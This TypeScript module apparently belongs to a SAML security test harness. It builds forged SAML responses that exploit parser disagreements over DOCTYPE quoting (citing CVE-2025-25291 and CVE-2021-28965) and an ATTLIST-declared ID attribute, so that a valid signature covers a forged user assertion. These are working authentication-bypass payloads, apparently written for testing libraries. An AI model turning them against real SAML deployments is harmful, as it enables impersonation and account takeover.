import type { Facts } from '../step.ts'
import { elementNamed, insertedAt, textOf } from './element-text.ts'
import { rewrite, userReplaced } from './rewrite.ts'
import { strippedOfSignatures } from './signature-text.ts'

/**
 * Two messages in one. As it stands, the literal hides `"><!--`, and the forged message has the signed one as mere text. A
 * reader that puts double quotes around the literal (when it writes down what it has read) ends the declaration early: the
 * forged message becomes a comment, and the signed one the document.
 */
const twoReadings = (title: string, doctype: string) =>
  rewrite(title, (xml, facts) => {
    const forged = forgedAround(xml, facts)
    // One instruction; or the end of the comment and another one.
    return `${doctype}${forged}<?a --><?b ?>`
  })

const forgedAround = (xml: string, facts: Facts): string => {
  const forged = userReplaced(strippedOfSignatures(xml), facts)
  const note = `<x:Note xmlns:x="urn:example:other"><![CDATA[-->${xml}<!--]]></x:Note>`
  const status = elementNamed(forged, 'Status').start
  return insertedAt(forged, status, `<samlp:Extensions>${note}</samlp:Extensions>`)
}

/** @see CVE-2025-25291 */
export const systemLiteralInQuotes = twoReadings(
  'a system literal with a quotation mark hides a forged message from one reader and the signed one from another',
  `<!DOCTYPE samlp:Response SYSTEM 'x"><!--'>`,
)

/** @see CVE-2021-28965 */
export const notationInQuotes = twoReadings(
  'a notation with a quotation mark hides a forged message from one reader and the signed one from another',
  `<!DOCTYPE samlp:Response [<!NOTATION x SYSTEM 'x">]><!--'>]>`,
)

/**
 * The forged assertion holds the signature of the signed one, which stands in Extensions. Its own ID is another, but the
 * document type says that its Key is an ID, too, and Key has what the signature refers to.
 * @see XML Signature 4.4.3.2
 */
export const keyOfTypeId = rewrite(
  'the document type makes an ID of an attribute of a forged assertion',
  (xml, facts) => {
    const assertion = elementNamed(xml, 'Assertion')
    const signed = textOf(xml, assertion)
    const id = /\sID="([^"]*)"/.exec(signed)?.[1] ?? ''
    const forged = userReplaced(signed, facts).replace(
      `ID="${id}"`,
      `ID="_00000000000000000000000000forged" Key="${id}"`,
    )
    const wrapped = xml.slice(0, assertion.start) + forged + xml.slice(assertion.end)
    const status = elementNamed(wrapped, 'Status').start
    const inside = insertedAt(wrapped, status, `<samlp:Extensions>${strippedOfSignatures(signed)}</samlp:Extensions>`)
    return `<!DOCTYPE samlp:Response [<!ATTLIST saml:Assertion Key ID #IMPLIED>]>${inside}`
  },
)
